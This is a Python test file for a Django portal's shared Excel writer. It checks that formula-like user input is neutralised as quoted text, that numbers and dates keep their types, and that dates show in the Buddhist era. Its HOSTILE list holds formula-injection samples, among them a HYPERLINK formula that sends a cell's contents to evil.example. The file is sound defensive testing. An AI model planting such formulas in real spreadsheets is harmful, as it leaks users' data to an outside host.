"""One workbook writer (pa_portal/xlsx.py): user text is stored as inert text, numbers and dates
as numbers and dates, and every module that writes a workbook goes through it."""

import datetime as dt
import io
import subprocess
from decimal import Decimal

import pytest
from django.conf import settings
from openpyxl import Workbook, load_workbook

from pa_portal.xlsx import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&D2,"เปิด")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _round_trip(values):
    workbook = Workbook()
    append_row(workbook.active, values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue())).active


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_is_stored_as_quoted_text(text):
    cell = _round_trip([text])["A1"]
    assert cell.data_type == "s"
    # (XML reads a stored carriage return back as a line feed.)
    assert cell.value.replace("\n", "\r") == "'" + text


def test_ordinary_text_numbers_and_dates_keep_their_types():
    when = dt.date(2026, 10, 1)
    sheet = _round_trip(["สุภาพร แก้วมณี", 7, Decimal("82.5"), -3, when, None])
    assert [c.value for c in sheet[1][:4]] == ["สุภาพร แก้วมณี", 7, 82.5, -3]
    assert sheet["B1"].data_type == "n" and sheet["D1"].data_type == "n"
    assert sheet["E1"].is_date and sheet["E1"].value.date() == when
    assert sheet["F1"].value is None


def test_dates_are_real_dates_shown_in_the_buddhist_era():
    sheet = _round_trip([dt.date(2026, 12, 16), dt.datetime(2027, 1, 18, 16, 30)])
    assert sheet["A1"].is_date and sheet["A1"].value.date() == dt.date(2026, 12, 16)
    # 07: the Thai Buddhist calendar, 041E: Thai month names ("16 ธันวาคม 2569" in Excel).
    assert sheet["A1"].number_format == "[$-107041E]d mmmm yyyy"
    assert sheet["B1"].number_format == "[$-107041E]d mmmm yyyy hh:mm"


def test_every_module_that_writes_a_workbook_uses_the_one_writer():
    files = subprocess.run(
        ["git", "grep", "-l", "openpyxl", "--", "*.py", ":!*/tests/*", ":!pa_portal/xlsx.py"],
        cwd=settings.BASE_DIR,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert files, "no workbook writers found: the search itself is broken"
    for name in files:
        source = (settings.BASE_DIR / name).read_text()
        assert "from pa_portal.xlsx import" in source, name
        assert ".append(" not in source.replace("append_row(", ""), f"{name} appends around the writer"
